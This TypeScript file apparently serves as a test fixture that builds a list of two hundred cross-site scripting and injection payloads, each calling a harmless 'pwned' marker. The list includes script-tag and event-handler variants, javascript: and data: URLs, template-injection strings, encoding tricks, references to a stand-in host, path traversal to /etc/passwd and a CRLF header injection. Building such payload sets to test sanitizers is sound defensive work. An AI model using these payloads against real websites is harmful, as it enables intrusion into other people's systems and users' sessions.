/** Two hundred injection payloads. A successful one calls `pwned` or opens a dialog. */

const call = 'window.pwned()';

const elements = [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script src="//evil.example/x.js"></script>`,
  `<script type="module">${call}</script>`,
  `<script\t>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mtext></p><script>${call}</script></math>`,
  `<iframe src="javascript:parent.pwned()"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<base href="//evil.example/">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `<link rel="import" href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<a href="javascript:${call}">go</a>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>body{background:url(//evil.example/x)}</style>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><a xlink:href="javascript:${call}">go</a></math>`,
  `<table background="javascript:${call}"><td>x</table>`,
];

const handlers = [
  ['img src=x', 'onerror'],
  ['img src="//evil.example/p.png"', 'onload'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['div style="animation:x"', 'onanimationstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['button popovertarget=x', 'onbeforetoggle'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['p', 'onmouseover'],
  ['p', 'onpointerenter'],
  ['p', 'onclick'],
  ['a href=#', 'onclick'],
] as const;

/** The same handler in the quoting styles that parsers disagree about. */
const quotings: ReadonlyArray<(tag: string, handler: string) => string> = [
  (tag, handler) => `<${tag} ${handler}=${call}>`,
  (tag, handler) => `"><${tag} ${handler}="${call}">`,
  (tag, handler) => `'><${tag.toUpperCase()} ${handler.toUpperCase()}='${call}'>`,
];

const attributes = [
  `" onmouseover="${call}`,
  `' onmouseover='${call}`,
  `" autofocus onfocus="${call}" x="`,
  `x" style="animation-name:rotation" onanimationstart="${call}`,
  `\` onmouseover=${call} \``,
  `" onfocus=${call} tabindex=1 id=x`,
];

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `javascript://%0a${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `\u0001javascript:${call}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>opener.pwned()</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `//evil.example/`,
  `https://evil.example/"onmouseover="${call}`,
  `https://evil.example/<script>${call}</script>`,
  `blob:null/x`,
  `filesystem:http://x`,
];

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `{{${call}}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `{%print(${call})%}`,
  `{{{${call}}}}`,
  `[[${call}]]`,
  `*{${call}}`,
  `@(${call})`,
  `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${call}"}}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `hasOwnProperty`,
  `dangerouslySetInnerHTML`,
];

const spellings = [
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  `＜script＞${call}＜/script＞`,
  `‮<script>${call}</script>`,
  `\u200b<script>${call}</script>`,
  `<\u2028script>${call}</script>`,
  `\ufeff<script>${call}</script>`,
  `ı<ſcript>${call}</ſcript>`,
  `<script>\u2029${call}</script>`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${call}</h:script></x>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<a\u0000href="javascript:${call}">`.replace('\u0000', ' '),
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `🏳️‍🌈<img src=x onerror=${call}>`,
  `a̷͈͉͝͝͝͝͝͝͝͝͝͝͝͝͝͝͝<b onclick=${call}>`,
  `=HYPERLINK("javascript:${call}")`,
  `';${call};'`,
  `";${call};"`,
  `\\";${call};//`,
  `*/${call}/*`,
  `\n${call}\n//`,
  `');${call};//`,
  `-${call}-`,
  `?.${call}`,
  `../../../etc/passwd`,
  `con.txt\r\nSet-Cookie: x=1`,
  `"; filename="evil.html`,
  `#/query?1(((`,
  `?x=<script>${call}</script>#<script>${call}</script>`,
];

const all = [
  ...elements,
  ...handlers.flatMap(([tag, handler]) => quotings.map((quote) => quote(tag, handler))),
  ...attributes,
  ...addresses,
  ...templates,
  ...spellings,
];

const COUNT = 200;

/** Distinct even when case is ignored, as table names must be. */
export const payloads: readonly string[] = all
  .concat(all.map((text) => `${text}${text}`))
  .filter((text, i, list) => list.findIndex((other) => other.toLowerCase() === text.toLowerCase()) === i)
  .slice(0, COUNT);

if (payloads.length !== COUNT) throw new Error(`There are ${payloads.length} payloads, not ${COUNT}.`);
